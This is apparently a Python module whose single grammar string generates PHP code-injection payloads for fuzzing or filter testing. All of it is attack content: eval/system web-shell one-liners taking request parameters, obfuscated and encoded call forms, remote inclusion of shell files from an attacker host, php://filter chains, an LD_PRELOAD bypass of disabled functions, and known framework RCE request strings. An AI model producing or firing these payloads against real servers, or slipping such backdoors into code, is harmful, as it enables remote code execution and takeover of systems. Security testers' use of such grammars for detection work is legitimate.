"""PHP code injection: functions, variable functions, superglobals, wrappers, configuration, obfuscated calls."""

TEXT = r"""
php := *5 «php_break»«php_stmt»«php_end» ¦ *4 «php_stmt» ¦ *3 <?php «php_stmt» ?> ¦ <?php «php_stmt» ¦ <?=«php_expr»?>
  ¦ <? «php_stmt» ?> ¦ <%«php_stmt»%> ¦ <script language="php">«php_stmt»</script> ¦ ${@«php_call»} ¦ ${«php_expr»}
  ¦ {${«php_call»}} ¦ *2 {php}«php_stmt»{/php} ¦ {«php_call»} ¦ {if «php_call»}{/if} ¦ {if phpinfo()}{/if}
  ¦ {«$t:abc»:if(«php_call»)}«rand»{/«$t»:if} ¦ {literal}«php_stmt»{/literal} ¦ {{php}}«php_stmt»{{/php}}
  ¦ @eval($_«php_super»['«ab»']); ¦ *2 «php_wrapper» ¦ *2 «php_config» ¦ «php_method» ¦ <!--#exec cmd="«unix_info»" -->
  ¦ <!--#«=include~config~printenv» «=virtual~file~var»="«unix_file»" -->
php_break := '; ¦ "; ¦ *2 '; ¦ *2 '. ¦ ". ¦ ); ¦ '); ¦ "); ¦ '.@ ¦ *2 ${@ ¦ *2 «word»'. ¦ «int»; ¦ ?><?php«sp» ¦ */ ¦ };
  ¦ '] ; ¦ "];«sp» ¦ ',«sp» ¦ ))); ¦ "}; ¦ [$«sp» ¦ «word»;
php_end := *3 // ¦ *3 ;// ¦ # ¦ ;# ¦ .' ¦ ." ¦ ;' ¦ } ¦ ;/* ¦ ;?> ¦ ;exit; ¦ ;die(); ¦ %00 ¦ ;$a=' ¦ ,' ¦ ;print(«rand»)
  ¦ .'«rand»
php_stmt := *4 «php_call»; ¦ *3 «php_call» ¦ *2 echo «php_expr»; ¦ print(«php_expr»); ¦ print «php_expr»;
  ¦ die(«php_expr»); ¦ exit(«php_expr»); ¦ @«php_call»; ¦ var_dump(«php_expr»); ¦ print_r(«php_expr»);
  ¦ echo «php_expr»;die(); ¦ $«$v:ab»=«php_expr»;echo $«$v»; ¦ eval(«php_coded»); ¦ @eval(«php_coded»);
  ¦ assert(«php_coded»); ¦ if(isset($_«php_super»['«$k:ab»'])){«=system~eval~passthru»($_«php_super»['«$k»']);}
  ¦ foreach($_«php_super» as $«$x:ab»=>$«ab»){$«$x»;} ¦ include(«php_path»); ¦ require_once(«php_path»);
  ¦ include '«unix_file»'; ¦ file_put_contents('«rand».php',«php_coded»);
  ¦ fwrite(fopen('«rand».php','w'),'<?php «php_stmt»?>'); ¦ unlink(__FILE__); ¦ copy('«url»','«rand».php');
  ¦ $f=create_function('',«php_coded»);$f(); ¦ while(1){«php_call»;} ¦ error_reporting(0);«php_call»;
  ¦ set_time_limit(0);«php_call»; ¦ header("«coined|cap»: «rand»"); ¦ throw new Exception(«php_expr»);
  ¦ system("«unix_cmd»"); ¦ ob_start();«php_call»;$«$v:ab»=ob_get_clean(); ¦ `«unix_info»`; ¦ global $«name»;
  ¦ extract($_«php_super»); ¦ mb_parse_str($_«php_super»['«ab»']);
  ¦ putenv("LD_PRELOAD=/tmp/«rand».so");mail("a","","","");
php_call := *3 phpinfo() ¦ *3 «php_exec»('«unix_info»') ¦ *2 «php_exec»("«unix_info»")
  ¦ *2 «php_exec»($_«php_super»['«ab»']) ¦ «php_exec»($_«php_super»[«ab»]) ¦ «php_exec»(«unix_bin»)
  ¦ *4 «php_func»(«php_arg») ¦ *2 «php_func»() ¦ call_user_func('«php_func»',«php_arg»)
  ¦ call_user_func_array('«php_func»',array(«php_arg»)) ¦ array_map('«php_exec»',array('«unix_bin»'))
  ¦ usort($_«php_super»,'assert') ¦ array_filter($_«php_super»,'«php_exec»') ¦ preg_replace('/.*/e',«php_coded»,'')
  ¦ $_«php_super»[«d»]($_«php_super»[«small»]) ¦ $_«php_super»['«ab»']($_«php_super»['«abc»'])
  ¦ «php_exec|split»('«unix_info»') ¦ («php_exec|split»)('«unix_info»') ¦ ('«php_exec|split»')(«php_arg»)
  ¦ "\x«=70\x68\x70\x69\x6e\x66\x6f~73\x79\x73\x74\x65\x6d»"(«php_arg») ¦ "«php_func|slashx»"(«php_arg»)
  ¦ "«php_func|slasho»"(«php_arg») ¦ ("«php_func|slashx»")() ¦ (base64_decode('«php_func|b64»'))(«php_arg»)
  ¦ (strrev('«php_func|rev»'))(«php_arg») ¦ (str_rot13('«abc»'))(«php_arg») ¦ implode([«php_exec|chrdot»])('«unix_bin»')
  ¦ «php_exec»(implode(['«unix_bin»',' ','«unix_file»'])) ¦ «php_exec»/*«rand»*/(«php_arg») ¦ «php_exec»«sp»(«php_arg»)
  ¦ (new ReflectionFunction('«php_exec»'))->invoke('«unix_info»') ¦ array_walk($_«php_super»,'«php_exec»')
  ¦ register_shutdown_function('«php_exec»','«unix_info»') ¦ ob_start('«php_exec»')
  ¦ array_diff_ukey(@array($_«php_super»[«ab»]=>1),@array('«ab»'=>2),'«php_exec»')
  ¦ iterator_apply(new ArrayIterator([1]),'«php_exec»',['«unix_bin»']) ¦ $GLOBALS['«php_func»'](«php_arg»)
  ¦ (function(){«php_exec»('«unix_bin»');})() ¦ «php_func|case»(«php_arg») ¦ \«php_func»(«php_arg»)
php_exec := *4 system ¦ *2 exec ¦ *2 passthru ¦ *2 shell_exec ¦ *2 eval ¦ *2 assert ¦ popen ¦ proc_open ¦ pcntl_exec
  ¦ create_function ¦ expect_popen ¦ mail ¦ backticks ¦ call_user_func ¦ highlight_file ¦ readfile
php_func := *3 phpinfo ¦ *2 md5 ¦ *2 system ¦ var_dump ¦ print_r ¦ printf ¦ file_get_contents ¦ file_put_contents
  ¦ fopen ¦ fwrite ¦ fread ¦ fgets ¦ fputs ¦ file ¦ readfile ¦ show_source ¦ highlight_file ¦ php_strip_whitespace
  ¦ scandir ¦ glob ¦ opendir ¦ readdir ¦ dir ¦ mkdir ¦ rmdir ¦ unlink ¦ rename ¦ copy ¦ symlink ¦ chmod ¦ chown ¦ touch
  ¦ tmpfile ¦ tempnam ¦ move_uploaded_file ¦ parse_ini_file ¦ getenv ¦ putenv ¦ ini_set ¦ ini_get ¦ ini_restore
  ¦ ini_alter ¦ get_cfg_var ¦ getcwd ¦ chdir ¦ getmyuid ¦ getmypid ¦ get_current_user ¦ phpversion ¦ php_uname
  ¦ php_sapi_name ¦ zend_version ¦ posix_getpwuid ¦ posix_getuid ¦ posix_uname ¦ posix_kill ¦ posix_setuid
  ¦ get_defined_vars ¦ get_defined_functions ¦ get_defined_constants ¦ get_declared_classes ¦ get_loaded_extensions
  ¦ get_object_vars ¦ get_class_methods ¦ function_exists ¦ extension_loaded ¦ disk_free_space ¦ sys_get_temp_dir
  ¦ memory_get_usage ¦ phpcredits ¦ debug_backtrace ¦ debug_print_backtrace ¦ error_log ¦ set_error_handler
  ¦ set_include_path ¦ base64_decode ¦ base64_encode ¦ bin2hex ¦ hex2bin ¦ gzinflate ¦ gzuncompress ¦ gzdecode
  ¦ gzdeflate ¦ str_rot13 ¦ strrev ¦ str_replace ¦ str_repeat ¦ substr ¦ strtolower ¦ chr ¦ ord ¦ pack ¦ unpack
  ¦ urldecode ¦ rawurldecode ¦ convert_uudecode ¦ hash ¦ sha1 ¦ crc32 ¦ md5_file ¦ sha1_file ¦ hash_file ¦ serialize
  ¦ unserialize ¦ var_export ¦ json_decode ¦ json_encode ¦ preg_replace ¦ preg_replace_callback ¦ preg_match
  ¦ mb_ereg_replace ¦ array_map ¦ array_walk ¦ array_filter ¦ array_reduce ¦ array_merge ¦ usort ¦ uasort ¦ uksort
  ¦ range ¦ compact ¦ extract ¦ parse_str ¦ import_request_variables ¦ register_tick_function
  ¦ register_shutdown_function ¦ ob_start ¦ ob_get_contents ¦ spl_autoload_register ¦ iterator_apply ¦ fsockopen
  ¦ pfsockopen ¦ stream_socket_client ¦ stream_context_create ¦ socket_create ¦ socket_connect ¦ curl_init ¦ curl_exec
  ¦ ftp_connect ¦ ftp_get ¦ gethostbyname ¦ dns_get_record ¦ mysql_query ¦ mysqli_connect ¦ pg_connect ¦ sqlite_query
  ¦ odbc_exec ¦ apache_setenv ¦ apache_child_terminate ¦ dl ¦ escapeshellarg ¦ proc_nice ¦ proc_get_status ¦ sleep
  ¦ usleep ¦ time_nanosleep ¦ session_start ¦ setcookie ¦ header ¦ exif_imagetype ¦ getimagesize ¦ imagecreatefrompng
  ¦ simplexml_load_file ¦ xml_parse ¦ zip_open ¦ bzopen ¦ gzopen ¦ readgzfile ¦ is_file ¦ is_dir ¦ file_exists
  ¦ filesize ¦ fileperms ¦ fileowner ¦ stat ¦ lstat ¦ readlink ¦ realpath ¦ pathinfo ¦ constant ¦ define ¦ is_callable
  ¦ forward_static_call ¦ func_get_args ¦ current ¦ end ¦ next ¦ array_flip ¦ localeconv ¦ getallheaders ¦ session_id
  ¦ array_pop ¦ similar_text ¦ metaphone ¦ money_format ¦ eregi_replace ¦ ctype_alpha ¦ mcrypt_encrypt ¦ openssl_decrypt
php_arg := *3 '«rand»' ¦ *2 «int» ¦ *2 '«unix_info»' ¦ '«unix_file»' ¦ *2 «php_superglobal» ¦ "«rand»" ¦ '«url»' ¦ 1
  ¦ __FILE__ ¦ -1 ¦ «int»*«int» ¦ base64_decode('«unix_info|b64»') ¦ chr(«dd»).chr(«dd») ¦ '«unix_dir»' ¦ «php_func»()
  ¦ $«name» ¦ '«climb3»«app_file»' ¦ null ¦ «rand» ¦ array('«rand»') ¦ "«unix_info|slashx»" ¦ current(«php_func»())
  ¦ '«rand».php','«rand»' ¦ hex2bin('«unix_info|hex»') ¦ 'allow_url_include',1 ¦ '/«word»/e','«rand»','«ab»'
  ¦ $_«php_super»[«ab»] ¦ «=PHP_OS~PHP_VERSION~DIRECTORY_SEPARATOR~INFO_ALL~DB_PASSWORD~E_ALL~PHP_INT_MAX»
climb3 := ../ ¦ ../../ ¦ ../../../
php_expr := *3 «php_call» ¦ *2 md5(«int») ¦ md5('«rand»') ¦ «int»*«int» ¦ «int»+«int» ¦ `«unix_info»` ¦ "«rand»"
  ¦ '«rand»'.'«rand»' ¦ «php_superglobal» ¦ file_get_contents('«unix_file»') ¦ php_uname() ¦ getcwd() ¦ phpversion()
  ¦ PHP_OS ¦ 'ab'.'cd' ¦ strrev('«rand»') ¦ sha1(«int») ¦ str_rot13('«rand»') ¦ $«name» ¦ new «php_class»(«php_arg»)
  ¦ implode(",",scandir('«unix_dir»')) ¦ bin2hex('«rand»') ¦ «php_class»::«php_func»(«php_arg») ¦ crc32('«rand»')
  ¦ date('Y') ¦ substr(md5(«int»),«d»,«tens») ¦ json_encode($GLOBALS)
php_class := SplFileObject ¦ DirectoryIterator ¦ FilesystemIterator ¦ GlobIterator ¦ SimpleXMLElement ¦ SoapClient
  ¦ ReflectionFunction ¦ ReflectionClass ¦ ReflectionMethod ¦ DOMDocument ¦ Imagick ¦ PDO ¦ mysqli ¦ ZipArchive
  ¦ XMLReader ¦ Closure ¦ ArrayObject ¦ Exception ¦ SQLite3 ¦ FFI ¦ Phar ¦ Error ¦ finfo ¦ LimitIterator ¦ stdClass
  ¦ \Illuminate\Support\«coined|cap» ¦ \«coined|cap»\«coined|cap»
php_super := *4 GET ¦ *4 POST ¦ *3 REQUEST ¦ COOKIE ¦ SERVER ¦ FILES ¦ ENV ¦ SESSION
php_superglobal := *4 $_«php_super»['«ab»'] ¦ $_«php_super»[«ab»] ¦ $_«php_super»{«ab»} ¦ $_«php_super» ¦ $GLOBALS
  ¦ $GLOBALS['«word»']
  ¦ $_SERVER['«=HTTP_USER_AGENT~PHP_SELF~DOCUMENT_ROOT~HTTP_X_CMD~REQUEST_URI~QUERY_STRING~argv~PATH_INFO~HTTP_REFERER~HTTP_ACCEPT_LANGUAGE»']
  ¦ $HTTP_«=GET_VARS~POST_VARS~RAW_POST_DATA~SERVER_VARS~COOKIE_VARS~POST_FILES~ENV_VARS» ¦ $argv ¦ $argc
  ¦ $this->«word» ¦ $php_errormsg ¦ $_${_GET}[«ab»] ¦ ${_GET}[«ab»] ¦ $$_GET[«ab»]
  ¦ $_«php_super»["«php_func»"](«php_arg») ¦ ${'_'.'GET'}[«d»] ¦ $http_response_header ¦ $_SESSION['«word»']
php_coded := *3 base64_decode('«php_inner|b64»') ¦ base64_decode("«php_inner|b64»") ¦ *2 $_«php_super»['«ab»']
  ¦ *2 $_«php_super»[«ab»] ¦ gzinflate(base64_decode('«b40»')) ¦ gzuncompress(base64_decode('«b40»'))
  ¦ str_rot13('«rand»') ¦ strrev('«php_inner|rev»') ¦ hex2bin('«php_inner|hex»') ¦ "«php_inner|slashx»"
  ¦ urldecode('«php_inner|urlall»') ¦ file_get_contents('«url»') ¦ file_get_contents('php://input') ¦ «php_inner|chrdot»
  ¦ '«php_inner»' ¦ pack('H*','«php_inner|hex»') ¦ end(getallheaders()) ¦ convert_uudecode('«rand»')
  ¦ implode('',array('«rand»','«rand»')) ¦ str_replace('«ab»','','«rand»')
  ¦ gzinflate(str_rot13(base64_decode("«b64s»"))) ¦ array_pop(next(get_defined_vars()))
php_inner := phpinfo(); ¦ echo md5(«int»); ¦ system('«unix_info»'); ¦ system($_GET[0]); ¦ echo «int»*«int»;
  ¦ print("«rand»"); ¦ @eval($_POST[«ab»]); ¦ echo `«unix_bin»`; ¦ die("«rand»"); ¦ passthru("«unix_info»");
  ¦ readfile('«unix_file»');
php_path := *2 'php://input' ¦ $_«php_super»['«ab»'] ¦ '«url»' ¦ '«unix_file»' ¦ '«climb3»«app_file»'
  ¦ "data://text/plain;base64,«php_inner|b64»" ¦ 'php://filter/convert.base64-encode/resource=«app_file»'
  ¦ '/tmp/«rand»' ¦ '/var/log/«word».log'
php_wrapper := *2 php://input ¦ data://text/plain;base64,«php_inner|b64» ¦ data://text/plain,<?php «php_stmt» ?>
  ¦ data:text/plain,<?=«php_expr»?> ¦ data:;base64,«php_inner|b64» ¦ expect://«unix_info» ¦ «url».php? ¦ «url».txt%00
  ¦ «scheme»://«attacker»/«=shell~cmd~c99~r57~x~info~b374k».«=txt~php~gif»?
  ¦ @2022 php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.«=L6.UNICODE~UTF16.EUCTW~SJIS.EUCJP~R9.ISO6937»|convert.base64-decode/resource=php://temp
  ¦ phar://«rand».«=jpg~phar»/«rand».php ¦ zip://«rand».«=jpg~zip»%23«rand» ¦ ogg://«rand»
  ¦ ssh2.exec://«word»:«rand»@«attacker»/«unix_bin» ¦ php://temp ¦ php://output ¦ php://stdin ¦ php://memory
  ¦ ftp://«attacker»/«rand».php ¦ glob:///«rand»* ¦ zlib:«unix_file» ¦ rar://«rand».rar
  ¦ «=+~?+»config-create+/&/<?=«php_call»?>+/tmp/«rand».php ¦ data:image/png;base64,«php_inner|b64»
php_config := *2 -d allow_url_include=«=1~on» -d auto_prepend_file=php://input
  ¦ -d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input ¦ «php_ini»=«=1~0~on~off~none~»
  ¦ auto_prepend_file=«=php://input~/tmp/x~.user.ini~data:;base64,PD8=» ¦ -d «php_ini»=«d» ¦ php_value «php_ini» «rand»
  ¦ php_flag «php_ini» on ¦ ini_set("«php_ini»",«d») ¦ disable_functions= ¦ open_basedir=/ ¦ -s
  ¦ -n -d «php_ini»="«rand»"
php_ini := *2 allow_url_include ¦ allow_url_fopen ¦ *2 auto_prepend_file ¦ auto_append_file ¦ disable_functions
  ¦ open_basedir ¦ safe_mode ¦ suhosin.simulation ¦ cgi.force_redirect ¦ cgi.redirect_status_env ¦ display_errors
  ¦ error_log ¦ log_errors ¦ include_path ¦ extension_dir ¦ extension ¦ session.save_path
  ¦ session.upload_progress.enabled ¦ opcache.preload ¦ opcache.enable_cli ¦ register_globals ¦ magic_quotes_gpc
  ¦ memory_limit ¦ upload_tmp_dir ¦ file_uploads ¦ short_open_tag ¦ sendmail_path ¦ mail.log ¦ unserialize_callback_func
  ¦ zend.assertions ¦ assert.active ¦ assert.callback ¦ expose_php ¦ html_errors ¦ default_charset
  ¦ arg_separator.output ¦ mbstring.func_overload ¦ user_ini.filename ¦ xdebug.remote_host ¦ phar.readonly
  ¦ date.timezone ¦ soap.wsdl_cache_dir ¦ max_execution_time
php_method := «=index~?s=index»/\«=think~Think»\«=app~App~Container~Request»/«=invokefunction~invokeFunction~input»&function=call_user_func_array&vars[0]=«php_func»&vars[1][]=«rand»
  ¦ _method=__construct&filter[]=«php_exec»&method=get&server[REQUEST_METHOD]=«unix_info»
  ¦ «word»[#«=post_render~markup~lazy_builder~pre_render~access_callback»][]=«php_exec»&«word»[#markup]=«unix_info»
  ¦ a=fetch&templateFile=«word»&prefix=''&content=<php>«php_stmt»</php> ¦ assertAction=«php_call»
  ¦ filter[]=«php_exec»&data=«unix_info» ¦ function=«php_func»&arguments[]=«rand» ¦ action=phpinfo
  ¦ callback=«php_func»&param=«php_arg» ¦ «word»={${«php_call»}} ¦ widgetConfig[code]=«php_stmt»
  ¦ routestring=ajax/render/«word»&code=«php_stmt» ¦ string=${phpinfo()} ¦ eval=«php_stmt» ¦ code=«php_stmt»&submit=1
  ¦ cmd=@eval(base64_decode($_POST[«ab»]));&«ab»=«php_inner|b64»
"""  # noqa: E501
